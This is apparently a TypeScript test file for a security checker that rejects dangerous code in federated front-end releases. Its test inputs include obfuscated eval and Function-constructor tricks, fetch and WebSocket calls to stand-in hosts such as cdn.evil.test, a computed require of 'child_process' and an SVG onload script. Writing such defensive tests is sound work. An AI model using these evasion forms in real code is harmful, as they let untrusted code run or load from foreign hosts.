import { readFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { dirname, join } from 'node:path';

import { forbiddenServerFile, forbiddenSource } from './forbidden-source';

const release = { entry: 'a.js', preloads: { pages: {}, slots: {} } };
const look = (path: string, text: string) => forbiddenSource(new Map([[path, Buffer.from(text)]]), release);
/** Looks at the script of a release of ES modules, which has one in a folder. */
const lookAtModule = (text: string) =>
  forbiddenSource(
    new Map([
      ['a.js', Buffer.from(text)],
      ['assets/b.js', Buffer.from('export const b = 1;')],
    ]),
    { ...release, entryType: 'module' },
  );
const OWN_REACT = 'a React of its own: two do not know the contexts and the state of each other.';
const CODE = ": the pages' content policy lets no text run as code.";

it.each([
  ['eval("1")', `eval${CODE}`],
  ['(0, eval)(x)', `eval${CODE}`],
  ['window["ev" + "al"](x)', `eval${CODE}`],
  ['globalThis.eval?.(x)', `eval${CODE}`],
  ['new Function("a", body)', `Function as a constructor${CODE}`],
  ['Function(`return ${x}`)()', `Function as a constructor${CODE}`],
  ['(() => {}).constructor("return 1")()', `Function as a constructor${CODE}`],
  ['const F = Function; new F(x)', `Function by another name${CODE}`],
  ['setTimeout("go()", 1)', `a timer that runs text${CODE}`],
  ['self.setInterval("go(" + x + ")", 1)', `a timer that runs text${CODE}`],
  ['import("./other.js")', 'import() past the bundler: only files of the release itself are vouched for.'],
  ['importScripts(x)', 'importScripts: only files of the release itself are vouched for.'],
  ['window.document.write(x)', 'document.write: it would overwrite the pages of others.'],
  ['e.__CLIENT_INTERNALS_DO_NOT_USE_OR_WARN_USERS_THEY_CANNOT_UPGRADE = t', OWN_REACT],
  ['const x = { "__SECRET_INTERNALS_DO_NOT_USE_OR_YOU_WILL_BE_FIRED": t }', OWN_REACT],
  ['a.href = "javascript:go()"', `a javascript: address${CODE}`],
])('rejects a script with %s', (text, what) => {
  expect(look('a.js', text)).toEqual([`a.js uses ${what}`]);
});

it.each([
  ['fetch("https://cdn.evil.test/x")', 'cdn.evil.test'],
  ['fetch("ht" + "tps://cdn.evil.test/x")', 'cdn.evil.test'],
  ['fetch(`https://cdn.evil.test/${x}`)', 'cdn.evil.test'],
  ['fetch("//cdn.evil.test/x")', 'cdn.evil.test'],
  ['fetch("HTTPS:\\\\\\\\cdn.evil.test/x")', 'cdn.evil.test'],
  ['fetch("https:/\\t/cdn.evil.test/x")', 'cdn.evil.test'],
  ['new WebSocket("wss://live.evil.test")', 'live.evil.test'],
])('rejects a script with %s', (text, host) => {
  expect(look('a.js', text)).toEqual([`a.js names the foreign host ${host}.`]);
});

it('reports both problems when a module is fetched from another origin', () => {
  expect(look('a.js', 'import("https://evil.test/x.js")')).toHaveLength(2);
});

it('accepts the React that a bundler keeps for shells without one only where no page loads it', () => {
  const react = Buffer.from('e.__CLIENT_INTERNALS_DO_NOT_USE_OR_WARN_USERS_THEY_CANNOT_UPGRADE = t');
  const of = (path: string) =>
    forbiddenSource(new Map([[path, react]]), { ...release, preloads: { pages: { x: ['b.js'] }, slots: {} } });
  expect([of('a.js'), of('b.js'), of('c.js')]).toEqual([[`a.js uses ${OWN_REACT}`], [`b.js uses ${OWN_REACT}`], []]);
});

it.each([
  ['import { b } from "./assets/b.js"; export * from "./assets/b.js"; export { b };', []],
  ['const load = () => import("./assets/b.js");', []],
  ['import "./c.js";', ['a.js uses the module ./c.js, which is not a file of its release.']],
  ['import "react";', ['a.js uses the module react, which is not a file of its release.']],
  [
    'export { x } from "/r/mf-events/1/a.js";',
    ['a.js uses the module /r/mf-events/1/a.js, which is not a file of its release.'],
  ],
  ['import "../a.js";', ['a.js uses the module ../a.js, which is not a file of its release.']],
  ['import(name)', ['a.js uses import() past the bundler: only files of the release itself are vouched for.']],
  ['await 0; import.meta.url; eval(x)', [`a.js uses eval${CODE}`]],
])('reads an ES module: %s', (text, problems) => {
  expect(lookAtModule(text)).toEqual(problems);
});

describe("the federation runtime's own code", () => {
  const require = createRequire(import.meta.url);
  const folderOf = (name: string) => dirname(require.resolve(name));
  const sdk = folderOf('@module-federation/sdk');
  const core = folderOf('@module-federation/runtime-core');

  it.each([
    join(core, 'utils/load.js'),
    join(sdk, 'utils.js'),
    join(sdk, 'node.js'),
    join(sdk, 'node.cjs'),
    join(sdk, 'normalize-webpack-path.js'),
  ])('is accepted as its package contains it: %s', async (path) => {
    const text = await readFile(path, 'utf8');
    expect(text).toContain('new Function(');
    const imports = /^import .*$/gm;
    expect(lookAtModule(text.replace(imports, '').replace(/^export .*$/gm, ''))).toEqual([]);
  });

  it.each([
    'new Function("callbacks", `import("${url}")${rest}; go()`)',
    'new Function("name", "return fetch(name)")',
    'new Function(a.getPublicPaths)',
    '(0, eval)("require(name)")',
    'typeof FEDERATION_ALLOW_NEW_FUNCTION !== "undefined" ? 0 : import(url).then(resolve).catch(reject)',
    'typeof FEDERATION_ALLOW_NEW_FUNCTION !== "undefined" ? Function("callbacks", `import("${url}")${rest}`)() : import(url)',
    'typeof OTHER !== "undefined" ? Function("callbacks", `import("${url}")${rest}`)() : import(url).then(resolve).catch(reject)',
  ])('is not what merely looks like it: %s', (text) => {
    expect(look('a.js', text)).toHaveLength(1);
  });
});

it('judges a module that a classic release loads late as a module', () => {
  const lookAtLate = (text: string) => look('late.js', text);
  expect(lookAtLate('export const here = import.meta.url;')).toEqual([]);
  expect(lookAtLate('export default eval("1");')).toEqual([`late.js uses eval${CODE}`]);
  expect(lookAtLate('import "https://elsewhere.example/a.js";')).toHaveLength(1);
  expect(look('a.js', 'export const entry = 1;')).toHaveLength(1);
});

it('rejects invalid JavaScript', () => {
  expect(look('a.js', 'const = 1')).toEqual(['a.js cannot be parsed as a script: Unexpected token (1:6).']);
});

it.each([
  [
    "the bundler's access to the global object",
    'const g = typeof globalThis === "object" ? globalThis : new Function("return this")();',
  ],
  [
    'type checks for functions',
    'x instanceof Function || typeof x === "function" || Function.prototype.toString.call(x)',
  ],
  [
    'timers with function callbacks',
    'setTimeout(() => go(), 1); setTimeout(go, 1); setInterval(go.bind(null, "x"), 1)',
  ],
  ['instances of the same class', 'new this.constructor("a")'],
  [
    'a portal, whose package reads what React defines',
    'n.__CLIENT_INTERNALS_DO_NOT_USE_OR_WARN_USERS, r.createPortal = c',
  ],
  ['other write methods', 'stream.write("a"); file.document = x; writer.write(x)'],
  [
    'text, names and comments',
    '/* https://evil.test */ const evaluate = "eval(1)"; x.eval(1); "http://www.w3.org/2000/svg"; "https://help.manabiba.example/"; a // b.c\n',
  ],
  ['its own addresses', 'fetch("/v1/me"); "https://"; "a//b"'],
])('accepts %s', (_what, text) => {
  expect(look('a.js', text)).toEqual([]);
});

const OWN = 'list__row--aB3x9';

it.each([
  [
    '@import "other.css";',
    'brings in another stylesheet by @import: only files of the release itself are vouched for.',
  ],
  ['@font-face{font-family:x}', 'has a rule @font-face, which applies to the whole page.'],
  [`.${OWN}{color:red}`, `has the rule ".${OWN}" outside @layer app: it would win over everything.`],
  [`@layer loud{.${OWN}{color:red}}`, 'uses the layer "loud": a remote has @layer app, its components @layer ui.'],
  ...[
    ':root',
    'html',
    'body',
    'h1',
    '*',
    '.header',
    '[data-theme=dark] p',
    `:not(.${OWN})`,
    `body:has(.${OWN})`,
    `.${OWN} ~ body`,
    `:is(.${OWN},p)`,
  ].map((selector) => [
    `@layer app{@media (min-width:1px){${selector}{color:red}}}`,
    `styles "${selector}": a selector must begin at a class of the remote's own CSS modules.`,
  ]),
])('rejects the style %s', (text, what) => {
  expect(look('a.css', text)).toEqual([`a.css ${what}`]);
});

it.each([':root:has(&)', '& ~ body', ':not(&) p'])('rejects the nested style %s', (selector) => {
  expect(look('a.css', `@layer app{.${OWN}{${selector}{color:red}}}`)).toEqual([
    `a.css styles "${selector}": a selector must begin at a class of the remote's own CSS modules.`,
  ]);
});

it('accepts the styles of the board’s editor in their layer', () => {
  expect(look('a.css', '@layer ui{.excalidraw .zoom-button{color:red}.excalidraw-tooltip{top:0}}')).toEqual([]);
});

it('rejects an invalid stylesheet', () => {
  expect(look('a.css', '@layer app{')).toEqual(['a.css cannot be parsed as a stylesheet: Unclosed block (1:1).']);
});

it('rejects a style that fetches from another origin', () => {
  expect(look('a.css', `@layer app{.${OWN}{background:url(//evil.test/a.png)}}`)).toEqual([
    'a.css names the foreign host evil.test.',
  ]);
});

it('finds the only offending selector of a list', () => {
  expect(look('a.css', `@layer app{.${OWN},p:is(a,b){color:red}}`)).toEqual([
    `a.css styles "p:is(a,b)": a selector must begin at a class of the remote's own CSS modules.`,
  ]);
});

it('accepts styles of CSS modules in any nesting', () => {
  expect(
    look(
      'a.css',
      `@layer base, ui, app;/* body{} */@layer app{.${OWN}>p:hover,[data-theme=dark] .${OWN}{content:"}body{";background:url("data:image/svg+xml,{")}@supports (display:grid){.${OWN}:has(a){color:red;&:hover{color:red}p{color:red}@media print{li &{color:red}}}:is(.${OWN},.${OWN} p) a{color:red}}@keyframes spin--x{to{rotate:1turn}}}@layer ui{.${OWN}{color:red}}`,
    ),
  ).toEqual([]);
});

it('reports the first ten rules of a whole foreign stylesheet', () => {
  const sheet = Array.from({ length: 30 }, (_each, index) => `.toast-${index}{color:red}`).join('');
  expect(look('a.css', sheet)).toHaveLength(11);
  expect(look('a.css', sheet).at(-1)).toBe('a.css has 20 more rules like these.');
});

it.each([
  ['const React = require("react"); require("react/jsx-runtime"); require("@manabiba/shared/platform");', []],
  ['require(["child", "process"].join("_"))', 'requires a module by a computed name'],
  ['import("node:fs")', 'uses import() past the bundler'],
  ['process.mainModule; eval("1")', 'uses eval'],
])('checks the file for the server: %s', (text, problem) => {
  expect(forbiddenServerFile('server/remote.cjs', Buffer.from(text))).toEqual(
    typeof problem === 'string' ? [expect.stringContaining(`server/remote.cjs ${problem}`)] : problem,
  );
});

it('rejects an image with a script', () => {
  expect(look('a.svg', '<svg onload="go()"/>')).toEqual(['a.svg holds a script: images must not run code.']);
});
